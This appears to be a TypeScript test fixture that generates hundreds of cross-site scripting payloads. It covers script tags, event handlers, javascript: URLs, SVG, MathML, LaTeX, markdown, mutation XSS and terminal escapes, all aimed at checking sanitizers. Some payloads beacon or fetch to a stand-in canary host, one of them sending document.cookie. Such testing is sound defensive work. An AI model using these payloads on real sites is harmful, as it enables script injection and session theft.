/** Where a payload that runs tries to send something; nothing answers there. */
export const canaryHost = 'canary.invalid';

/** What a payload would do if it ran: tell the page, open a dialog, load something, lead the page away. */
const calls: readonly ((id: number) => string)[] = [
  (id) => `__ran(${id})`,
  (id) => `top.__ran(${id})`,
  (id) => `parent['__ran'](${id})`,
  (id) => `alert(__ran(${id}))`,
  (id) => `eval('__ran(${id})')`,
  (id) => `setTimeout('__ran(${id})')`,
  (id) => `Function('__ran(${id})')()`,
  (id) => `__ran(${id});fetch('https://${canaryHost}/${id}')`,
  (id) => `__ran(${id});new Image().src='//${canaryHost}/${id}'`,
  (id) => `__ran(${id});top.location='https://${canaryHost}/${id}'`,
  (id) => `__ran(${id});open('https://${canaryHost}/${id}')`,
  (id) => `__ran(${id});navigator.sendBeacon('https://${canaryHost}/${id}',document.cookie)`,
];

/** A way to bring a script in: `js` is the script, `at` an address that must not be asked. */
type Shell = (js: string, at: string) => string;

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const coded = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const page = (js: string) => `<script>${js}</script>`;
const drawing = (inner: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`;

const scriptTags: Shell[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<script\n>${js}</script\n>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `]]><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `</pre></code><script>${js}</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<script>/*</script><script>*/${js}</script>`,
  (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
  (_js, at) => `<script src="${at}"></script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script type="text/javascript" defer>${js}</script>`,
  (js) => `<script async src="data:;base64,${base64(js)}"></script>`,
  (js) => `<ſcript>${js}</ſcript>`,
];

const handlers: [string, string][] = [
  ['img src=x', 'onerror'],
  ['img src=x:x', 'ONERROR'],
  ['img/src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['svg', 'onload'],
  ['svg/x', 'onload'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=1 autofocus', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['marquee loop=1 width=0', 'onfinish'],
  ['style', 'onload'],
  ['link rel=stylesheet href=data:text/css,', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['div style="animation:x 1s"', 'onanimationstart'],
  ['div style="transition:color 1s"', 'ontransitionend'],
  ['p', 'onmouseover'],
  ['p', 'onpointerenter'],
  ['a href=#', 'onclick'],
  ['table background=x', 'onerror'],
  ['frameset', 'onload'],
  ['track src=x default', 'onerror'],
  ['bgsound src=x', 'onerror'],
  ['dialog open', 'onclose'],
  ['meter', 'onscrollend'],
  ['video autoplay src=data:video/mp4,', 'onloadstart'],
  ['x onbeforematch hidden=until-found', 'onbeforematch'],
  ['form', 'onsubmit'],
  ['isindex type=image src=1', 'onerror'],
  ['math', 'onclick'],
  ['picture><source srcset=x><img src=x', 'onerror'],
];
const eventHandlers: Shell[] = [
  ...handlers.map(
    ([tag, event]): Shell =>
      (js) =>
        `<${tag} ${event}="${escaped(js)}">`,
  ),
  (js) => `<img src=x onerror='${coded(js)}'>`,
  (js) => `"><img src=x onerror="${escaped(js)}">`,
  (js) => `'"><img src=x onerror="${escaped(js)}">`,
  (js) => `<img src=x\nonerror\n=\n"${escaped(js)}"\n>`,
  (js) => `<img src="x\`onerror="${escaped(js)}">`,
  (js) => `<<img src=x onerror="${escaped(js)}">`,
  (js) => `<img """><img src=x onerror="${escaped(js)}">`,
  (js) => `<img src=x \0onerror="${escaped(js)}">`,
  (js) => `" autofocus onfocus="${escaped(js)}" x="`,
  (js) => `x" onerror="${escaped(js)}`,
];

const scriptAddresses: Shell[] = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\u0001javascript:',
    'java\tscript:',
    'java\nscript:',
    'javascript\n:',
    '&#106;avascript:',
    'javascript&colon;',
    'vbscript:',
    'javascript://%0A',
  ].flatMap((scheme): Shell[] => [
    (js) => `<a href="${scheme}${escaped(js)}">go</a>`,
    (js) => `<iframe src="${scheme}${escaped(js)}"></iframe>`,
  ]),
  (js) => `<form action="javascript:${escaped(js)}"><input type=submit></form>`,
  (js) => `<button formaction="javascript:${escaped(js)}">go</button>`,
  (js) => `<form><input type=image formaction="javascript:${escaped(js)}"></form>`,
  (js) => `<object data="javascript:${escaped(js)}"></object>`,
  (js) => `<embed src="javascript:${escaped(js)}">`,
  (js) => `<area href="javascript:${escaped(js)}">`,
  (js) => `<img src="javascript:${escaped(js)}">`,
  (js) => `<a href="#" ping="javascript:${escaped(js)}">go</a>`,
  (js) => `<blockquote cite="javascript:${escaped(js)}">x</blockquote>`,
];

const drawings: Shell[] = [
  (js) => drawing(page(js)),
  (js) => drawing(`<script href="data:text/javascript,${encodeURIComponent(js)}"/>`),
  (js) => drawing(`<script xlink:href="data:text/javascript,${encodeURIComponent(js)}"/>`),
  (js) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${escaped(js)}"/>`,
  (js) => drawing(`<g onload="${escaped(js)}"/>`),
  (js) => drawing(`<animate onbegin="${escaped(js)}" attributeName="x" dur="1s"/>`),
  (js) => drawing(`<set onbegin="${escaped(js)}" attributeName="x"/>`),
  (js) => drawing(`<a xlink:href="javascript:${escaped(js)}"><text y="9">go</text></a>`),
  (js) => drawing(`<a href="javascript:${escaped(js)}"><text y="9">go</text></a>`),
  (js) => drawing(`<a><animate attributeName="href" values="javascript:${escaped(js)}"/><text y="9">go</text></a>`),
  (js) =>
    drawing(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${escaped(page(js))}"/></foreignObject>`,
    ),
  (js) =>
    drawing(
      `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${escaped(js)}"/></foreignObject>`,
    ),
  (js) => drawing(`<image href="x" onerror="${escaped(js)}"/>`),
  (_js, at) => drawing(`<image href="${at}"/>`),
  (_js, at) => drawing(`<use href="${at}#x"/>`),
  (js) => drawing(`<use href="data:image/svg+xml;base64,${base64(drawing(`<g id="x">${page(js)}</g>`))}#x"/>`),
  (_js, at) => drawing(`<style>@import url(${at});</style>`),
  (js) => drawing(`<desc><![CDATA[</desc>${page(js)}]]></desc>`),
  (js) => drawing(`<title><style></title>${page(js)}</style></title>`),
  (js) => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "${escaped(page(js))}">]>${drawing('&x;')}`,
  (_js, at) => drawing(`<feImage href="${at}"/>`),
  (js) => drawing(`<handler type="text/javascript">${js}</handler>`),
  (js) => drawing(`<script type="module"><![CDATA[${js}]]></script>`),
];

const formulas: Shell[] = [
  (js) => `<math href="javascript:${escaped(js)}">x</math>`,
  (js) => `<math xlink:href="javascript:${escaped(js)}"><mi>x</mi></math>`,
  (js) => `<math><mtext><script>${js}</script></mtext></math>`,
  (js) => `<math><mi//xlink:href="data:x,${page(js)}">`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${escaped(js)}"></annotation-xml></math>`,
  (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${escaped(js)}">x</maction></math>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${escaped(escaped(js))}&gt;">`,
  (js) => `<math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='${coded(js)}' src=x>">`,
  (js) => `$\\href{javascript:${js}}{x}$`,
  (js) => `$$\\url{javascript:${js}}$$`,
  (js) => `$\\htmlData{onclick=${js}}{x}$`,
  (js) => `$\\includegraphics{javascript:${js}}$`,
  (_js, at) => `\\[\\includegraphics[height=1em]{${at}}\\]`,
  (js) => `$\\text{<img src=x onerror="${js}">}$`,
  (js) => `$\\unicode{<script>${js}</script>}$`,
  (js) => `$\\htmlStyle{background:url(javascript:${js})}{x}$`,
  (js) => `$\\def\\x{<script>${js}</script>}\\x$`,
  (js) => `$\\error{${page(js)}$`,
];

const embedded: Shell[] = [
  (js) => `<iframe srcdoc="${escaped(page(js))}"></iframe>`,
  (js) => `<iframe srcdoc='${coded(page(js))}'></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=${escaped(escaped(js))}&gt;"></iframe>`,
  (js) =>
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="${escaped(page(js))}"></iframe>`,
  (js) => `<iframe src="data:text/html,${encodeURIComponent(page(js))}"></iframe>`,
  (js) => `<iframe src="data:text/html;base64,${base64(page(js))}"></iframe>`,
  (js) => `<object data="data:text/html;base64,${base64(page(js))}"></object>`,
  (js) => `<embed src="data:image/svg+xml;base64,${base64(drawing(page(js)))}">`,
  (js) => `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64(drawing(page(js)))}"></object>`,
  (js) => `<a href="data:text/html,${encodeURIComponent(page(js))}">go</a>`,
  (js) => `<img src="data:text/html,${encodeURIComponent(page(js))}">`,
  (js) => `<img src="data:image/svg+xml;base64,${base64(drawing(page(js)))}">`,
  (_js, at) => `<iframe src="${at}"></iframe>`,
  (_js, at) => `<object data="${at}"></object>`,
  (_js, at) => `<embed src="${at}">`,
  (_js, at) => `<frame src="${at}">`,
  (js) => `<portal src="javascript:${escaped(js)}"></portal>`,
  (js) => `<applet code="javascript:${escaped(js)}"></applet>`,
  (js) => `<iframe src="blob:x" srcdoc="${escaped(page(js))}" allow="*"></iframe>`,
];

const pagesAndStyles: Shell[] = [
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${escaped(js)}">`,
  (_js, at) => `<meta http-equiv="refresh" content="0;url=${at}">`,
  (js) => `<meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(page(js))}">`,
  (_js, at) => `<meta http-equiv="set-cookie" content="x=1"><base href="${at}/"><img src="a.png">`,
  (js) => `<base href="javascript:${escaped(js)}//">`,
  (_js, at) => `<base target="_top" href="${at}">`,
  (_js, at) => `<link rel=stylesheet href="${at}">`,
  (_js, at) => `<link rel=preload as=image href="${at}">`,
  (_js, at) => `<link rel=prefetch href="${at}">`,
  (_js, at) => `<link rel=import href="${at}">`,
  (_js, at) => `<style>@import "${at}";</style>`,
  (_js, at) => `<style>*{background:url(${at})}</style>`,
  (js) => `<style>*{background:url("javascript:${js}")}</style>`,
  (_js, at) => `<div style="background:url(${at})">x</div>`,
  (js) => `<div style="width:expression(${escaped(js)})">x</div>`,
  (js) => `<div style="-moz-binding:url('data:text/xml,${encodeURIComponent(js)}')">x</div>`,
  (_js, at) => `<img src="${at}">`,
  (_js, at) => `<video poster="${at}"></video>`,
  (_js, at) => `<input type=image src="${at}">`,
  (_js, at) => `<body background="${at}">`,
  (_js, at) => `<audio src="${at}" autoplay></audio>`,
  (_js, at) => `<form action="${at}"><input autofocus></form>`,
  (_js, at) => `<img srcset="${at} 2x">`,
  (_js, at) => `<font face="x" style="src:url(${at})">x</font>`,
];

const mutations: Shell[] = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${escaped(js)}>">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<template><style></template><img src=x onerror="${escaped(js)}"></style>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror='${coded(js)}'>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${escaped(js)}">`,
  (js) => `<math><mtext><table><mglyph><style><math><img src=x onerror="${escaped(js)}"></style>`,
  (js) => `<svg><style>&lt;img src=x onerror=${escaped(escaped(js))}&gt;</style></svg>`,
  (js) => `<xmp><p title="</xmp><img src=x onerror='${coded(js)}'>">`,
  (js) => `<noembed><p title="</noembed><img src=x onerror='${coded(js)}'>">`,
  (js) => `<noframes><p title="</noframes><img src=x onerror='${coded(js)}'>">`,
  (js) => `<textarea><p title="</textarea><img src=x onerror='${coded(js)}'>">`,
  (js) => `<title><p title="</title><img src=x onerror='${coded(js)}'>">`,
  (js) => `<plaintext><img src=x onerror="${escaped(js)}">`,
  (js) => `<!--><img src=x onerror="${escaped(js)}">-->`,
  (js) => `<!-- --!><img src=x onerror="${escaped(js)}"> -->`,
  (js) => `<![CDATA[><img src=x onerror="${escaped(js)}">]]>`,
  (js) => `<?xml ><img src=x onerror="${escaped(js)}"> ?>`,
  (js) => `<select><template><img src=x onerror="${escaped(js)}"></template></select>`,
  (js) => `<table><td><img src=x onerror="${escaped(js)}"></td></table>`,
  (js) => `<option><style></option></select><img src=x onerror="${escaped(js)}"></style>`,
  (js) => `<div><template shadowrootmode=open><img src=x onerror="${escaped(js)}"></template></div>`,
  (js) => `<listing>&lt;img src=x onerror=${escaped(escaped(js))}&gt;</listing>`,
  (js) => `<a id=__proto__><a id=constructor name=prototype><img src=x onerror="${escaped(js)}">`,
  (js) => `<form id=document><input name=body><img name=getElementById src=x onerror="${escaped(js)}">`,
  (js) => `{{constructor.constructor('${js.replaceAll("'", String.raw`\'`)}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `<div data-content-type="image" data-url="javascript:${escaped(js)}" class="bn-block-content"></div>`,
  (js) => `<div class="bn-inline-content"><img src=x onerror="${escaped(js)}"></div>`,
  (js) =>
    `<table border="1" class="dataframe"><thead><tr><th></th></tr></thead><tbody><tr><td><b onmouseover="${escaped(js)}">1</b></td></tr></tbody></table>`,
];

const markdown: Shell[] = [
  (js) => `[go](javascript:${js})`,
  (js) => `[go](<javascript:${js}>)`,
  (js) => `[go](JaVaScRiPt:${js})`,
  (js) => `[go](java\tscript:${js})`,
  (js) => `[go](&#106;avascript:${js})`,
  (js) => `[go]( javascript:${js} "x")`,
  (js) => `![x](javascript:${js})`,
  (js) => `![x](https://picture.invalid/?${encodeURIComponent(js)} "${js}")`,
  (js) => `![x](data:text/html,${encodeURIComponent(page(js))})`,
  (js) => `![x](data:image/svg+xml;base64,${base64(drawing(page(js)))})`,
  (js) => `<javascript:${js}>`,
  (js) => `[go][a]\n\n[a]: javascript:${js}`,
  (js) => `![x" onerror="${js}](x)`,
  (js) => `[x](x" onmouseover="${js})`,
  (js) => `[<img src=x onerror="${js}">](#)`,
  (js) => `\`<img src=x onerror="${js}">\``,
  (js) => `\`\`\`html\n<script>${js}</script>\n\`\`\``,
  (js) => `# <img src=x onerror="${js}">`,
  (js) => `| <img src=x onerror="${js}"> |\n|---|\n| [go](javascript:${js}) |`,
  (js) => `- [ ] <svg onload="${js}">`,
  (js) => `[^1]\n\n[^1]: <script>${js}</script>`,
  (js) => `<details open ontoggle="${escaped(js)}">\n\n[go](javascript:${js})\n\n</details>`,
  (js) => `[go](data:text/html;base64,${base64(page(js))})`,
  (js) => `[go](vbscript:${js})`,
  (js) => `![x](attachment:${js})`,
];

const terminal: Shell[] = [
  (js) => `\u001b]8;;javascript:${js}\u0007go\u001b]8;;\u0007`,
  (js) => `\u001b]8;;javascript:${js}\u001b\\go\u001b]8;;\u001b\\`,
  (_js, at) => `\u001b]8;;${at}\u0007go\u001b]8;;\u0007`,
  (js) => `\u001b[31m<script>${js}</script>\u001b[0m`,
  (js) => `\u001b[38;2;1;2;3"onmouseover="${js}m<img src=x onerror="${escaped(js)}">\u001b[0m`,
  (js) => `\u001b]0;<script>${js}</script>\u0007`,
  (js) => `\u001b[1337;x<img src=x onerror="${escaped(js)}">m`,
  (js) => `\r<script>${js}</script>\r\u001b[2K`,
  (js) => `\u001b]8;;data:text/html,${encodeURIComponent(page(js))}\u0007go\u001b]8;;\u0007`,
  (js) => `\u001bP<img src=x onerror="${escaped(js)}">\u001b\\`,
];

// A picture of the web that a text names is shown, as on any page: it is not asked for at the canary's address.

/** The families of payloads, and the ways in of each. */
const families = {
  scriptTags,
  eventHandlers,
  scriptAddresses,
  drawings,
  formulas,
  embedded,
  pagesAndStyles,
  mutations,
  markdown,
  terminal,
} as const;

const shells: readonly Shell[] = Object.values(families).flat();

/** One payload for each way in and each thing it could do; its place in the list is what it tells when it runs. */
export const payloads: readonly string[] = calls.flatMap((call, turn) =>
  shells.map((shell, index) => {
    const id = turn * shells.length + index;
    return shell(call(id), `https://${canaryHost}/${id}`);
  }),
);

/** One payload of each way in: each tells of itself and does one of the other things. */
export const oneOfEach: readonly string[] = shells.map(
  (_, index) => payloads[(7 + (index % 5)) * shells.length + index]!,
);

/** Payloads short and plain enough for a name. */
export const nameable: readonly string[] = payloads
  .slice(0, shells.length)
  .filter((payload) => payload.length <= 60 && !/[\\/\p{Cc}]/u.test(payload));
